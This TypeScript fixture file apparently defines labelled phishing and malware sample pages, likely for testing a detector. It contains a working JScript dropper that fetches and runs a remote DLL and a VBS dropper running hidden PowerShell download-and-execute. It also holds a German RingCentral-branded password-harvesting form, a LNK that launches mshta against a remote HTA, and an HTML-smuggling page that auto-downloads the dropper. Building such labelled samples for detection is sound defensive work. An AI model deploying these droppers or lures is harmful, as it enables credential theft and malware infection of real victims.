import type { Entry } from '../entry.js';
import { zip, pe, cfb, iso, lnk, rar5, fileRoute } from '../parts/e-bin.js';
import { doc, esc, msLogo, wordmark, jsRoute, jsonRoute, imgRoute, favicon, htmlRoute, b64 } from '../parts/zh-kit.js';

const JS_DROPPER = `// Invoice viewer component
var _s=WScript.CreateObject("WScript.Shell");var _f=WScript.CreateObject("Scripting.FileSystemObject");
var _u=["hxxps://cdn-invoicing.paymentportal-ops.com/gate/",".php?id=","inv"].join("").replace("hxxps","https");
var _p=_s.ExpandEnvironmentStrings("%TEMP%")+"\\\\msupd"+Math.floor(Math.random()*9999)+".dll";
try{var x=WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");x.open("GET",_u,false);x.send();var st=WScript.CreateObject("ADODB.Stream");st.Type=1;st.Open();st.Write(x.responseBody);st.SaveToFile(_p,2);st.Close();
_s.Run("rundll32.exe "+_p+",DllRegisterServer",0,false);}catch(e){}
_s.Run("cmd /c start https://www.office.com",0,false);`;

const VBS_DROPPER = `On Error Resume Next
Set o = CreateObject("WScript.Shell")
c = "powershell -w hidden -ep bypass -c ""$u='https://files-remit.accountsrv-cdn.com/rm/a.txt';iex ((New-Object Net.WebClient).DownloadString($u))"""
o.Run c, 0, False
MsgBox "The document could not be opened. The file is corrupted.", 16, "Remittance Viewer"`;

const PAGE_CSS = `.wrap{max-width:620px;margin:60px auto;border:1px solid #ddd;border-radius:6px;padding:30px}.btn{display:inline-block;background:#0b6bcb;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none}.muted{color:#666;font-size:13px}`;

export const entries: Entry[] = [
  {
  id: 'zh-voicemail-de-ringcentral',
  label: 'phishing',
  kind: 'voicemail-lure',
  url: 'https://rc-sprachnachricht.cloudtelefon-service.de.com/vm/?id=48821&user=t.hoffmann%40brenner-logistik.de',
  body: doc('Neue Sprachnachricht', `<div style="max-width:460px;margin:60px auto;border:1px solid #ddd;border-radius:8px;padding:28px;font-family:Arial">
<div style="color:#ff8800;font-weight:700;font-size:22px">RingCentral</div>
<h2>Neue Sprachnachricht (1:12)</h2><p>Von: <b>+49 89 5550 1827</b><br>An: <span id="u"></span></p>
<p>Bitte melden Sie sich mit Ihrem Microsoft-Konto an, um die Nachricht anzuhören.</p>
<form method="post" action="/vm/anmelden.php"><input id="e" name="e" style="width:100%;padding:9px;margin:4px 0"><input name="k" type="password" placeholder="Kennwort" style="width:100%;padding:9px;margin:4px 0"><button style="width:100%;background:#0684bd;color:#fff;border:0;padding:10px">Nachricht abspielen</button></form>
<p style="font-size:11px;color:#888">© 2026 RingCentral, Inc. Alle Rechte vorbehalten.</p></div>
<script>var u=new URLSearchParams(location.search).get('user');document.getElementById('u').textContent=u;document.getElementById('e').value=u;</script>`, { lang: 'de' }),
  routes: { 'rc-sprachnachricht.cloudtelefon-service.de.com/vm/anmelden.php': { status: 302, headers: { location: 'https://www.ringcentral.com/de/de/' }, body: '' } },
},
  {
  id: 'zh-remittance-vbs-direct',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://files-remit.accountsrv-cdn.com/rm/?ref=AP-99213',
  body: doc('Remittance', `<div class="wrap"><p>Preparing your remittance document…</p><p class="muted">If nothing happens, <a id="a" href="/rm/Remittance_AP-99213.vbs">download it manually</a>.</p></div>
<script>setTimeout(function(){location.href=document.getElementById('a').href},1200)</script>`, { css: PAGE_CSS }),
  routes: {
    'files-remit.accountsrv-cdn.com/rm/Remittance_AP-99213.vbs': fileRoute(VBS_DROPPER, 'text/vbscript', 'Remittance_AP-99213.vbs'),
  },
},
  {
  id: 'zh-seikyusho-ja-lnk-zip',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://seikyu.cloud-hakkou.jp.net/dl/2026-11/?k=tanaka-kogyo',
  body: doc('請求書のダウンロード', `<div class="wrap"><h2>請求書発行のお知らせ</h2><p>株式会社 北斗商事 様</p><p>2026年11月分の請求書を発行いたしました。下記よりダウンロードしてご確認ください。</p>
<p>請求金額: <b>¥1,284,800</b>（税込）<br>お支払期限: 2026年12月25日</p>
<a class="btn" href="/dl/2026-11/seikyusho_202611.zip">請求書をダウンロード</a><p class="muted">ファイルを開く際にパスワードは不要です。ご不明な点は経理部までお問い合わせください。</p></div>`, { lang: 'ja', css: PAGE_CSS }),
  routes: {
    'seikyu.cloud-hakkou.jp.net/dl/2026-11/seikyusho_202611.zip': fileRoute(zip([
      { name: '請求書_202611.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min mshta https://seikyu.cloud-hakkou.jp.net/dl/v.hta', 'C:\\Windows\\System32\\imageres.dll') },
    ]), 'application/zip', 'seikyusho_202611.zip'),
  },
},
  {
  id: 'zh-faktura-sv-img',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://faktura.betalningsportal-nord.se.net/visa/F2026-3381',
  body: doc('Faktura F2026-3381', `<div class="wrap"><h2>Faktura F2026-3381</h2><p>Avsändare: <b>Nordkust Bygg AB</b><br>Belopp: 86 400 kr · Förfallodag: 2026-12-10</p><p>Fakturan är för stor för att bifogas i e-post. Ladda ner den nedan.</p>
<a class="btn" href="/visa/F2026-3381/Faktura_F2026-3381.img">Ladda ner faktura</a><p class="muted">Öppna filen genom att dubbelklicka på den. Frågor? Kontakta ekonomi@nordkustbygg.se</p></div>`, { lang: 'sv', css: PAGE_CSS }),
  routes: {
    'faktura.betalningsportal-nord.se.net/visa/F2026-3381/Faktura_F2026-3381.img': fileRoute(iso('FAKTURA', ['FAKTURA_F2026-3381.PDF.LNK', 'DATA.DAT']), 'application/octet-stream', 'Faktura_F2026-3381.img'),
  },
},
  {
  id: 'zh-smuggle-voicemail-wav-zip',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://voicebox-relay.callnotes-cloud.com/play/VM_0_38s.html',
  body: doc('Voice Message 0:38', `<div style="max-width:420px;margin:90px auto;text-align:center;font-family:Segoe UI,Arial;border:1px solid #ddd;padding:30px;border-radius:10px"><div style="font-size:44px">🎙️</div><h3>New voice message · 0:38</h3><p style="color:#666">Your browser cannot play this audio format. The message has been saved as <b>VM_0_38s.zip</b>. Open it to listen.</p></div>
<script>
var parts=["${zip([{ name: 'VM_0_38s.wav.wsf', data: `<job><script language="JScript">${JS_DROPPER}</script></job>` }]).toString('base64').match(/.{1,200}/g)!.join('","')}"];
var bin=atob(parts.join('')),arr=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++){arr[i]=bin.charCodeAt(i)}
var url=URL.createObjectURL(new Blob([arr],{type:'application/zip'}));var a=document.createElement('a');a.href=url;a['down'+'load']='VM_0_38s.zip';a.click();
</script>`),
},
];
